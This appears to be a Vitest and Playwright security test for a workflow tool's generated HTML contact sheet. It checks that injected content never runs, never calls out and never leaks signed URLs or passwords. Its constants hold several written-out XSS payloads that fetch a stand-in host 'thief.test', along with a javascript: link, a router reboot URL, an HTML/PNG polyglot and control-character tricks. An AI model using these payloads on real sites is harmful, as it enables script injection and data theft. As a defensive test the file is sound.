/** The contact sheet of a stranger's workflow, in a real browser: nothing runs, nobody is asked, nothing is told. */
import { readFileSync, writeFileSync } from 'node:fs'
import { pathToFileURL } from 'node:url'
import { type Browser, chromium } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { COMMANDS } from '../../src/commands/list.ts'
import { openMediaServer } from '../stories/support/mediaServer.ts'
import { changed, nodeOf, PICTURES, scenes } from '../stories/support/scenes.ts'
import { openStage, type Stage } from '../stories/support/stage.ts'

const SWITCHES = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-background-networking',
  '--disable-sync',
]
const STEAL = 'globalThis.ran=1;fetch("http://thief.test/")'
const HOSTILE = [
  `</title></style></script><script>${STEAL}</script>`,
  `"><img src=x onerror='${STEAL}'>`,
  `' onmouseover='${STEAL}' autofocus onfocus='${STEAL}`,
  `<svg onload='${STEAL}'/><iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<a href="javascript:${STEAL}">x</a><form action=javascript:${STEAL}><button autofocus>`,
  '<link rel=stylesheet href=http://thief.test/><meta http-equiv=refresh content="0;url=http://thief.test/">',
  '<!-- --><base href=http://thief.test/>&lt;b&gt;\u202eevil\u0000\u001b]52;c;ZXZpbA==\u0007]]>',
].join('')
/** A file may hold no `/` in its name. */
const NAME = `"><img src=x onerror='globalThis.ran=1'>\u202e`
const FILE = `${NAME}S1-V0-1.nbflow`

/** A sound PNG that is a page with a script, too. */
function polyglot(): Buffer {
  return Buffer.concat([PICTURES.jun, Buffer.from(`<html><script>${STEAL}</script></html>`)])
}

let browser: Browser

beforeAll(async () => {
  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: SWITCHES })
}, 60_000)

afterAll(() => browser?.close())

/** Opens a page, looks at all of it, clicks what can be clicked, and tells what it asked for and what ran. */
async function open(path: string) {
  const page = await browser.newPage({ viewport: { width: 1280, height: 800 } })
  const requests: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  let dialogs = 0
  page.on('dialog', (dialog) => {
    dialogs += 1
    void dialog.dismiss()
  })
  await page.goto(pathToFileURL(path).href)
  await page.evaluate('for (const image of document.images) image.loading = "eager"')
  await page.evaluate('for (const each of document.querySelectorAll("details")) each.open = true')
  await expect
    .poll(() => page.evaluate('[...document.images].every((image) => image.complete)'), { timeout: 20_000 })
    .toBe(true)
  const ran = await page.evaluate('globalThis.ran ?? null')
  const links: unknown = await page.evaluate('[...document.links].map((link) => link.href)')
  const active = await page.evaluate(
    'document.querySelectorAll("script, iframe, form, object, embed, base, link[rel=stylesheet], [onerror], [onload], [onfocus], svg *").length',
  )
  await page.close()
  return { requests, ran, dialogs, active, links: links as string[] }
}

/** Hostile in every place that a workflow, a service, a person or a file name can fill. */
async function hostileStage(): Promise<{ stage: Stage; sheet: string; asked: string[] }> {
  const server = await openMediaServer({
    'saved.png': PICTURES.mara,
    'avatar.png?X-Amz-Signature=canary-signature': PICTURES.avatar,
  })
  const text = changed(scenes(3, { avatar: `${NAME}.png`, outputCount: 2 }), (file) => {
    const { nodes, links } = file.tabs[0]!.graphData
    file.tabs[0]!.name = HOSTILE
    for (const node of nodes) node.title = `${HOSTILE}${node.id}`
    for (const id of [10, 13, 20, 23, 30, 33]) nodeOf(file, id).properties.text = `${HOSTILE} ${id}`
    for (const id of [11, 21, 31]) nodeOf(file, id).properties[HOSTILE] = HOSTILE
    // One reference is signed, one is a page called a picture.
    nodes.push({ ...structuredClone(nodeOf(file, 1)), id: 2 }, { ...structuredClone(nodeOf(file, 1)), id: 3 })
    nodeOf(file, 2).properties.imageData = `${server.url}/avatar.png?X-Amz-Signature=canary-signature`
    nodeOf(file, 3).properties.imageData = 'polyglot.html'
    for (const link of links as number[][]) {
      if (link[1] === 1 && link[3] === 21) link[1] = 2
      if (link[1] === 1 && link[3] === 31) link[1] = 3
    }
    nodeOf(file, 31).properties._savedImages = [
      `${server.url}/saved.png`,
      'http://192.168.1.1/reboot.cgi',
      'javascript:globalThis.ran=1',
    ]
  })
  const stage = await openStage({
    files: { [FILE]: text, [`${NAME}.png`]: PICTURES.avatar, 'polyglot.html': polyglot() },
  })
  stage.environment.RETAKE_ALLOW_HOSTS = '127.0.0.1'
  stage.environment.RETAKE_WHO = HOSTILE
  stage.sim.setFaults([
    {
      when: { type: 'image', times: 1 },
      effect: { kind: 'fail', errorCode: 400, error: HOSTILE, errorDetail: HOSTILE },
    },
  ])
  await stage.run(FILE)
  await stage.call(COMMANDS.reject, { file: FILE, node: '21', slots: ['2'], tell: HOSTILE })
  await stage.call(COMMANDS.regen, { file: FILE, nodes: ['21'] })
  const sheet = stage.path(
    stage
      .files(/\.html$/)
      .filter((name) => name !== 'polyglot.html')
      .at(-1)!,
  )
  return { stage, sheet, asked: server.asked }
}

test('nothing of a stranger runs, nobody is asked, and no signature is passed on, with the policy of the page or without', async () => {
  const { stage, sheet, asked } = await hostileStage()
  const before = asked.length
  const page = readFileSync(sheet, 'utf8')
  const unguarded = stage.path('unguarded.html')
  writeFileSync(unguarded, page.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''))
  expect(page).toContain('http-equiv="Content-Security-Policy"')
  expect(page).not.toContain('canary-signature')
  expect(stage.read(stage.files(/-generated-.*\.nbflow$/).at(-1)!)).toContain('canary-signature')
  expect(page).not.toMatch(/[\u0000-\u0008\u001b\u202a-\u202e]/)
  for (const path of [sheet, unguarded]) {
    const { requests, ran, dialogs, active, links } = await open(path)
    expect({ ran, dialogs, active }).toEqual({ ran: null, dialogs: 0, active: 0 })
    const beside = pathToFileURL(`${stage.folder}/`).href
    expect(requests.filter((url) => !url.startsWith(beside) && url !== 'data:,')).toEqual([])
    expect(requests.length).toBeGreaterThan(5)
    expect(links.filter((link) => !/#tab-[\w-]+$|\.(png|mp4)$/.test(link))).toEqual([])
  }
  expect(asked.length).toBe(before)
  expect(page).not.toContain('192.168.1.1')
}, 120_000)

test('no message about a reference names its signature, its name or its password', async () => {
  const signed = 'https://ada:canary-password@127.0.0.1:9/a.png?X-Amz-Signature=canary-signature#canary-hash'
  const failing = await openStage({ files: { 'T1-V0-1.nbflow': scenes(1, { avatar: signed }) } })
  const answer = await failing.run('T1-V0-1.nbflow')
  expect(answer.errors[0]!.message).toContain('"https://***@127.0.0.1:9/a.png?***"')
  expect(failing.read('errors.json') + JSON.stringify(answer)).not.toContain('canary')
}, 60_000)
